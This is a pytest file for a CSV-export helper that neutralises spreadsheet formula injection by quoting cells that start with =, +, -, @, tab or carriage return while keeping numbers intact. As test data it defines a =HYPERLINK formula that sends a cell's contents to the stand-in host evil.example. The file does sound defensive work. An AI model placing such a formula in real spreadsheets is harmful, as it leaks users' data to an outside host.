"""CSV safe to open in a spreadsheet: text that would run as a formula is written as text, numbers as numbers."""

import csv
import io

import pytest

from cropper.spreadsheets import FORMULA_STARTS, cell, csv_text, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=", "-12"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    (-12, -12), (0, 0), (12.5, 12.5), (-0.5, -0.5),  # numbers stay numbers, signs and all
    ("Aegina", "Aegina"), (" =1", " =1"), ("a=b", "a=b"), ("", ""), (None, ""), (True, "True"),
])
def test_numbers_and_harmless_text_are_written_as_they_are(value, written):
    assert cell(value) == written


def test_every_start_owasp_names_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_a_row_reads_back_neutralised_with_its_numbers_intact():
    text = csv_text(["label", "x1"], [[HYPERLINK, -12], ["\r@cmd", 7]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["label", "x1"], ["'" + HYPERLINK, "-12"], ["'\r@cmd", "7"]]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    """Python's csv module, ending lines with LF, would leave this cell unquoted: a spreadsheet splits the row
    at the CR and runs the formula after it."""
    text = csv_text(["label", "x1"], [["Aegina\r=HYPERLINK(1)", 3]])
    assert text == 'label,x1\n"Aegina\r=HYPERLINK(1)",3\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["label", "x1"], ["Aegina\r=HYPERLINK(1)", "3"]]


def test_writing_to_a_file_gives_the_same_text():
    out = io.StringIO()
    write_csv(out, ["a"], [["=1"], [2]])
    assert out.getvalue() == csv_text(["a"], [["=1"], [2]]) == "a\n'=1\n2\n"
